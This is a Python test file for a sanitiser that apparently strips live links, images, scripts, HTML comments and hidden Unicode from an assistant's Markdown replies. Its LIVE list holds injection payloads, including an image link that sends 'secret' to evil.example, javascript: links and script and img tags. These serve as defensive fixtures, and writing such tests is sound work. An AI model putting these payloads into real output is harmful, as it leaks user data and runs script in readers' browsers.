"""What is about to be shown: nothing live, hidden or reordering, and the words as they were."""

from __future__ import annotations

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.library import load_library
from assistant.safety import safe_to_show
from assistant.settings import PROJECT

SOURCE = "https://publications.aap.org/pediatrics/article/149/1"
# Whatever plain Markdown makes, but links and images.
_OTHER_TAG = re.compile(r"<(?!/?(?:p|em|strong|ul|ol|li|h\d|hr|br|blockquote|code|pre)\b)")
_RENDERED = MarkdownIt("commonmark", {"html": True, "linkify": False})

LIVE = [
    "![x](http://evil.example/p.png?q=secret)",
    "[press here](http://evil.example)",
    "[press](javascript:alert(1))",
    "[press](<http://evil.example> 'title')",
    "[![x](http://evil.example/a)](http://evil.example/b)",
    "<img src=http://evil.example/x>",
    "<script>alert(1)</script>",
    "<a href='http://evil.example'>x</a>",
    "<http://evil.example>",
    "see [ref]\n\n[ref]: http://evil.example",
    "![ref]\n\n[ref]: http://evil.example 'x'",
    "</div><style>*{}</style>",
    "<!-- hidden -->",
    "\\<script>alert(1)</script>",
    "\\\\<img src=x>",
    "[press\\](http://evil.example)",
]


@pytest.mark.parametrize("text", LIVE)
def test_nothing_in_it_is_live(text: str) -> None:
    html = _RENDERED.render(safe_to_show(f"Before {text} after"))
    assert not [sign for sign in ("<a ", "<img", "<script", "<style", "<!--", "</div>") if sign in html]


@pytest.mark.parametrize(
    "text", ["Look at http://evil.example/p.", "[press here](http://evil.example)", "www.a.example"]
)
def test_a_reader_sees_what_was_written(text: str) -> None:
    assert _RENDERED.render(safe_to_show(text)) == f"<p>{text}</p>\n"


def test_a_link_to_a_source_of_the_library_stays() -> None:
    text = f"[the paper]({SOURCE}) and {SOURCE}."
    assert safe_to_show(text, {SOURCE}) == text
    assert safe_to_show(f"![x]({SOURCE})", {SOURCE}) != f"![x]({SOURCE})"


def test_what_hides_or_reorders_is_shown_or_dropped() -> None:
    assert safe_to_show("a\u202eb\u200bc") == "a[U+202E]bc"


@pytest.mark.parametrize(
    "text", ["Plain words, 3 < 4 and a > b.", "[ADD: name] and [1]", "**bold**\n\n1. one\n2. two", ""]
)
def test_ordinary_replies_are_left_as_they_are(text: str) -> None:
    assert safe_to_show(text) == text


def test_no_card_is_changed() -> None:
    for card in load_library(PROJECT / "knowledge").cards.values():
        for text in (card.answer, *(bullet for bullets in card.sections.values() for bullet in bullets)):
            assert safe_to_show(text) == text


@given(st.text(alphabet="ab [](){}<>!/:`\\\n.htps\x00", max_size=60))
def test_nothing_live_can_be_put_together(text: str) -> None:
    html = _RENDERED.render(safe_to_show(text))
    assert not _OTHER_TAG.search(html)


@pytest.mark.parametrize("piece", ["[", "![", "[a](", "<", "http://", "`", "](", "[a]:"])
def test_time_grows_linearly(piece: str) -> None:
    started = time.process_time()
    safe_to_show(piece * 10_000)
    assert time.process_time() - started < 2
